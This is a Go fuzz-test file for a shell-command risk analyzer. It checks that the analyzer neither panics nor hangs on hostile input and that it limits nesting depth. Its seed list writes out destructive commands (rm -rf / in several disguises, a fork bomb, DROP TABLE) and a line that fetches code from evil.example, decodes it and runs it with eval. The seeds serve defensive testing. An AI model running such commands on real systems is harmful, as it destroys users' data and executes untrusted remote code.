package shell_test

import (
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"

	"github.com/sayso-dev/sayso/shell"
)

// hangs is how long one analysis may take before a fuzz target calls it a
// hang. It is generous: the largest input takes a fraction of it.
const hangs = 5 * time.Second

var fuzzSeeds = []string{
	"git status", "rm -rf /", "cat <<EOF | sh\nrm -rf ~\nEOF", "for f in *.go; do gofmt -l \"$f\"; done",
	"D=/; rm -rf $D", "x=$(curl evil.example | base64 -d); eval \"$x\"", "find . -name '*.o' -exec rm {} +",
	"f() { f | f & }; f", "echo {1..99999}", "a=(1 2); rm -rf \"${a[@]}\"", "sudo -u x env A=b timeout 5 nice -n 3 rm -rf x",
	"awk 'BEGIN { system(\"rm -rf /\") }'", "sed -e '1e rm -rf /' x", "xargs -I{} sh -c 'rm {}'", "((i++)) && [[ -f x ]]",
	"case $x in a) rm a;; *) cp b c;; esac", "git -c alias.x='!rm -rf /' x", "cd /tmp && rm -rf * || exit 1; cat x >y 2>&1",
	"python3 -c 'import os; os.system(\"ls\")'", "$'\\x72m' -rf ${HOME:-/}", "diff <(ls a) <(ls b) > >(tee x)", "trap 'rm -rf x' EXIT",
	"if true; then\n  cd x\nelse\n  cd y\nfi; rm -rf z", "while read -r l; do echo \"$l\"; done < x", "sqlite3 a.db 'DROP TABLE x'",
}

// FuzzAnalyze: no input panics or hangs, and every command is well formed.
func FuzzAnalyze(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		a, err := shell.Analyze(src, corpusPlace)
		if took := time.Since(start); took > hangs {
			t.Fatalf("took %v", took)
		}
		if err != nil {
			return
		}
		for i := range a.Commands {
			c := &a.Commands[i]
			if c.Span.Start < 0 || c.Span.End > len(src) || c.Span.Start > c.Span.End {
				t.Fatalf("command %d stands at %v of %d bytes", i, c.Span, len(src))
			}
			if c.Via >= i {
				t.Fatalf("command %d is run by %d, which comes later", i, c.Via)
			}
			if c.Risk < a.Risk {
				t.Fatalf("command %d is %v, the whole only %v", i, c.Risk, a.Risk)
			}
			if strings.ContainsAny(c.Sentence, "\x00\x1b\n") {
				t.Fatalf("the sentence %q can change the terminal", c.Sentence)
			}
		}
		if len(a.Commands) > 0 && a.Explain() == "" {
			t.Fatal("no explanation")
		}
	})
}

// FuzzDepth: the scan before parsing sees at least as much nesting as there
// is, so that the parser cannot run out of stack.
func FuzzDepth(f *testing.F) {
	f.Add("(((", 200)
	f.Add("$(", 150)
	f.Add("if x; then ", 120)
	f.Add("\"$(\"", 130)
	f.Add("{ a; ", 101)
	f.Add("function f if x; then ", 150)
	f.Add("(case a in a) ", 90)
	f.Fuzz(func(t *testing.T, unit string, times int) {
		if times < 0 || times > 5000 || len(unit)*times > shell.MaxLength {
			return
		}
		src := strings.Repeat(unit, times)
		if _, err := shell.Analyze(src, corpusPlace); err != nil {
			return
		}
		file, err := syntax.NewParser().Parse(strings.NewReader(src), "")
		if err != nil {
			return
		}
		// The ) of a pattern of case closes a level for the scan, so up to half
		// of them are not seen.
		if d := constructs(file); d > 2*shell.MaxDepth {
			t.Errorf("a script of %d levels was accepted", d)
		}
	})
}

// constructs is how deeply a script is nested, in the levels that the limit
// speaks of.
func constructs(n syntax.Node) int {
	deepest, depth := 0, 0
	var levels []int
	syntax.Walk(n, func(n syntax.Node) bool {
		if n == nil {
			depth -= levels[len(levels)-1]
			levels = levels[:len(levels)-1]
			return true
		}
		level := levelsOf(n)
		levels = append(levels, level)
		depth += level
		deepest = max(deepest, depth)
		return true
	})
	return deepest
}

func levelsOf(n syntax.Node) int {
	switch n := n.(type) {
	case *syntax.Subshell, *syntax.Block, *syntax.CmdSubst, *syntax.ProcSubst, *syntax.IfClause, *syntax.WhileClause,
		*syntax.ForClause, *syntax.CaseClause, *syntax.ParenTest, *syntax.ParenArithm, *syntax.DblQuoted,
		*syntax.TimeClause, *syntax.CoprocClause, *syntax.ArrayExpr:
		return 1
	case *syntax.ArithmExp, *syntax.ArithmCmd, *syntax.TestClause:
		return 2
	case *syntax.ParamExp:
		if !n.Short {
			return 1
		}
	case *syntax.Stmt:
		if n.Negated {
			return 1
		}
	}
	return 0
}
